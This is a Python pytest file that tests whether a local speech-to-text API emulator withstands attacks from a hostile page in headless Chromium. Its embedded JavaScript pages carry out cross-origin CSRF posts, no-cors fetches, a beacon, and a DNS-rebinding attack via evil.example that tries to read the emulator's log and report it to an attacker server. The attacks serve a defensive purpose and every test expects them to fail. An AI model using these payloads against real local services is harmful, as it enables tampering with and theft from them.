"""A hostile web page in a real browser (headless chromium) against the emulator: from another loopback port
(form posts, fetch in no-cors mode, a beacon, an image, CORS reads) and by DNS rebinding (a name of the
page's that comes to resolve to 127.0.0.1). The emulator's state never changes and nothing it holds reaches
the page. The page reports what it saw to the test's own server."""

from __future__ import annotations

import http.client
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import EmulatorHandle, free_port, wait_until

from stt_cli.emulator import guard
from stt_cli.emulator.server import Emulator

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (.ci/run installs it)")
SECRET_NAME = "board-minutes-secret.wav"
REPORT_SECONDS = 60.0
BOUNDARY = "browser-test-boundary"


class PageServer:
    """The attacker's server: serves pages by path, answers anything else with a marker (while it holds a
    port the emulator will take), and takes the page's reports (from any origin)."""

    def __init__(self, pages: dict[str, str], port: int = 0) -> None:
        self.pages = pages
        self.reports: dict[str, Any] = {}
        self.arrived = threading.Condition()
        self.hits = 0
        self.go = threading.Event()
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                pass

            def _answer(self, body: bytes, content_type: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.send_header("Access-Control-Allow-Origin", "*")  # the attacker's own server: its reports
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(body)
                self.close_connection = True

            def do_GET(self) -> None:
                path = self.path.split("?", 1)[0]
                owner.hits += 1
                if path in owner.pages:
                    self._answer(owner.pages[path].encode(), "text/html; charset=utf-8")
                elif path == "/go":
                    self._answer(b"yes" if owner.go.is_set() else b"no", "text/plain")
                else:
                    self._answer(b'{"hostile": true}', "application/json")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self._answer(b"ok", "text/plain")
                if self.path.startswith("/report/"):
                    with owner.arrived:
                        owner.reports[self.path.removeprefix("/report/")] = json.loads(body)
                        owner.arrived.notify_all()

        self.httpd = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.port = int(self.httpd.server_address[1])
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def wait(self, name: str) -> Any:
        with self.arrived:
            assert self.arrived.wait_for(lambda: name in self.reports, timeout=REPORT_SECONDS), (
                f"the page never reported {name!r}"
            )
            return self.reports[name]

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Callable[..., None]]:
    """Opens a URL in headless chromium (no network beyond this machine); closed at the end of the test."""
    opened: list[subprocess.Popen[bytes]] = []

    def open_page(url: str, *flags: str) -> None:
        assert CHROMIUM is not None
        profile = tmp_path / f"chromium-{len(opened)}"
        quiet = [  # headless, with no network of its own (no updates, sync, proxy)
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--no-first-run", "--no-proxy-server",
        ]  # fmt: skip
        command = [CHROMIUM, *quiet, f"--user-data-dir={profile}", *flags, url]
        silent = subprocess.DEVNULL
        opened.append(subprocess.Popen(command, stdin=silent, stdout=silent, stderr=silent))

    yield open_page
    for process in opened:
        process.kill()
        process.wait(timeout=10)


def seed(emulator: EmulatorHandle) -> str:
    """What a page must not see or change: an upload named SECRET_NAME in the log, a fault, next-job settings."""
    body = (
        (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="model"\r\n\r\n#g1_whisper-large\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="audio"; filename="{SECRET_NAME}"\r\n\r\n'
        ).encode()
        + os.urandom(4000)
        + f"\r\n--{BOUNDARY}--\r\n".encode()
    )
    connection = http.client.HTTPConnection("127.0.0.1", emulator.server.httpd.server_address[1], timeout=10)
    headers = {"Authorization": "Bearer k", "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    connection.request("POST", "/v1/stt/create", body=body, headers=headers)
    response = connection.getresponse()
    assert response.status == 200
    job = str(json.loads(response.read())["generation_id"])
    connection.close()
    emulator.fault("poll", {"status": 503})
    emulator.next_job(fail="the owner's setting")
    return job


CROSS_ORIGIN_PAGE = """<!doctype html><html><body>
<iframe name="sink" id="sink"></iframe>
<form id="f1" method="post" target="sink" enctype="text/plain" action="EMU/_emulator/reset">
  <input name='{"x": "' value='"}'></form>
<form id="f2" method="post" target="sink" action="EMU/_emulator/shutdown"><input name="a" value="b"></form>
<form id="f3" method="post" target="sink" enctype="multipart/form-data" action="EMU/v1/stt/create">
  <input name="model" value="#g1_whisper-large"></form>
<script>
const E = "EMU";
const results = {};
async function attempt(name, url, init) {
  try {
    const answer = await fetch(url, init);
    results[name] = {type: answer.type, status: answer.status, body: await answer.text()};
  } catch (error) {
    results[name] = {error: String(error)};
  }
}
function submitted(id) {
  return new Promise(done => {
    const frame = document.getElementById("sink");
    frame.onload = () => done();
    setTimeout(done, 5000);
    document.getElementById(id).submit();
  });
}
(async () => {
  const plain = {method: "POST", mode: "no-cors"};
  await attempt("reset", E + "/_emulator/reset", {...plain, body: "{}"});
  await attempt("faults", E + "/_emulator/faults", {...plain, headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({endpoint: "create", responses: [{status: 500}]})});
  await attempt("next-job", E + "/_emulator/next-job", {...plain, body: '{"fail": "a page says so"}'});
  await attempt("advance", E + "/_emulator/advance", {...plain, body: '{"seconds": 999}'});
  await attempt("create-json", E + "/v1/stt/create", {...plain, headers: {"Authorization": "Bearer k"},
      body: JSON.stringify({model: "#g1_whisper-large", url: "https://example.com/a.wav"})});
  const form = new FormData();
  form.append("model", "#g1_whisper-large");
  form.append("audio", new Blob([new Uint8Array(2048)], {type: "audio/wav"}), "page.wav");
  await attempt("create-form", E + "/v1/stt/create", {...plain, body: form});
  await attempt("shutdown", E + "/_emulator/shutdown", {...plain, body: ""});
  results.beacon = navigator.sendBeacon(E + "/_emulator/expire", '{"generation_id": "JOB"}');
  await attempt("poll-no-cors", E + "/v1/stt/JOB", {mode: "no-cors"});
  await new Promise(done => { const image = new Image(); image.onload = image.onerror = done;
      image.src = E + "/v1/stt/x"; });
  await submitted("f1");
  await submitted("f2");
  await submitted("f3");
  await attempt("read-log", E + "/_emulator/requests", {});
  await attempt("read-info", E + "/_emulator/info", {});
  await attempt("read-result", E + "/v1/stt/JOB", {});
  await attempt("read-log-credentials", E + "/_emulator/requests", {credentials: "include"});
  await new Promise(done => setTimeout(done, 500));  // the beacon is sent in the background
  await fetch("/report/cross", {method: "POST", body: JSON.stringify(results)});
})();
</script></body></html>"""


def test_a_page_on_another_loopback_port_changes_nothing_and_reads_nothing(
    emulator: EmulatorHandle, browser: Callable[..., None]
) -> None:
    job = seed(emulator)
    before = emulator.state()
    connections = emulator.server.httpd.accepted
    root = emulator.root
    page = PageServer({"/cross": CROSS_ORIGIN_PAGE.replace("EMU", root).replace("JOB", job)})
    try:
        browser(f"http://127.0.0.1:{page.port}/cross")
        results = page.wait("cross")
    finally:
        page.close()
    assert emulator.state() == before  # not reset, no fault, no job, no log entry, not stopped
    # every request reached the emulator (and was refused): a refusal closes its connection
    assert emulator.server.httpd.accepted - connections >= 17, results  # 17 requests, each on its own
    for name in ("read-log", "read-info", "read-result", "read-log-credentials"):
        assert "TypeError" in results[name].get("error", ""), results  # no answer the page may read
    for name in ("reset", "faults", "next-job", "advance", "create-json", "create-form", "shutdown"):
        assert results[name] == {"type": "opaque", "status": 0, "body": ""}, results
    assert SECRET_NAME not in json.dumps(results) and job not in json.dumps(results)


def test_without_the_origin_check_the_controls_still_take_nothing_from_a_page(
    emulator: EmulatorHandle, browser: Callable[..., None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same page, against an emulator whose Origin and fetch-metadata check is taken away (as if a browser
    sent neither): what a page may send without a preflight is text, a form or multipart, and the controls
    take only JSON (415); the API wants a key no no-cors request can carry (401). Nothing changes but the
    log of those refused creates and polls, and nothing reaches the page."""
    monkeypatch.setattr(guard, "page_refusal", lambda method, headers: None)
    job = seed(emulator)
    before = emulator.state()
    logged = len(emulator.requests())
    page = PageServer({"/cross": CROSS_ORIGIN_PAGE.replace("EMU", emulator.root).replace("JOB", job)})
    try:
        browser(f"http://127.0.0.1:{page.port}/cross")
        results = page.wait("cross")
    finally:
        page.close()
    after = emulator.state()
    assert {**after, "requests": None} == {**before, "requests": None}  # no reset, fault, job, expiry or stop
    refused = emulator.requests()[logged:]
    assert refused and all(entry["outcome"] == 401 for entry in refused), refused
    for name in ("read-log", "read-info", "read-result", "read-log-credentials"):
        assert "TypeError" in results[name].get("error", ""), results  # no answer the page may read
    assert SECRET_NAME not in json.dumps(results) and job not in json.dumps(results)


REBINDING_PAGE = """<!doctype html><html><body><script>
const REPORT = "REPORTER";
const pause = ms => new Promise(done => setTimeout(done, ms));
async function read(path, init) {
  try {
    const answer = await fetch(path, {cache: "no-store", ...init});
    return {status: answer.status, body: await answer.text()};
  } catch (error) {
    return {error: String(error)};
  }
}
function report(name, data) {
  return fetch(REPORT + "/report/" + name, {method: "POST", mode: "no-cors", body: JSON.stringify(data)});
}
(async () => {
  for (let i = 0; i < 600; i++) {  // until this name's port answers from the emulator, not the page's server
    const seen = await read("/_emulator/requests");
    if (seen.status && !seen.body.includes('"hostile"')) break;
    await pause(100);
  }
  await report("rebound", {});
  for (let i = 0; i < 600; i++) {  // until the test has given the emulator something to steal
    const go = await read(REPORT + "/go");
    if (go.body === "yes") break;
    await pause(100);
  }
  const results = {
    log: await read("/_emulator/requests"),
    info: await read("/_emulator/info"),
    models: await read("/v1/models"),
    reset: await read("/_emulator/reset", {method: "POST", headers: {"Content-Type": "application/json"},
        body: "{}"}),
    faults: await read("/_emulator/faults", {method: "POST", headers: {"Content-Type": "application/json"},
        body: JSON.stringify({endpoint: "poll", responses: [{status: 500}]})}),
  };
  await report("stolen", results);
})();
</script></body></html>"""


def test_dns_rebinding_in_a_real_browser_reads_nothing_and_changes_nothing(browser: Callable[..., None]) -> None:
    """The page is served at http://evil.example:PORT by the attacker's server; then that server leaves the
    port and the emulator takes it: the page's same-origin requests now reach the emulator, naming
    evil.example in Host. (chromium maps the name to 127.0.0.1 itself: no DNS server is needed.)"""
    port = free_port()
    reporter = PageServer({})
    attacker = PageServer({"/rebind": REBINDING_PAGE.replace("REPORTER", f"http://127.0.0.1:{reporter.port}")}, port)
    server: Emulator | None = None
    try:
        browser(f"http://evil.example:{port}/rebind", "--host-resolver-rules=MAP evil.example 127.0.0.1")
        wait_until(lambda: attacker.hits >= 2, REPORT_SECONDS)  # the page, and its first same-origin read
        attacker.close()
        server = Emulator("127.0.0.1", port, processing_time=0.2).start()
        emulator = EmulatorHandle(server)
        reporter.wait("rebound")
        job = seed(emulator)
        before = emulator.state()
        reporter.go.set()
        stolen = reporter.wait("stolen")
        assert emulator.state() == before
    finally:
        reporter.close()
        if server is not None:
            server.stop()
    for name in ("log", "info", "models", "reset", "faults"):
        assert stolen[name]["status"] == 421, stolen  # the page reads its own refusal, and nothing else
        assert json.loads(stolen[name]["body"])["statusCode"] == 421
    assert SECRET_NAME not in json.dumps(stolen) and job not in json.dumps(stolen)
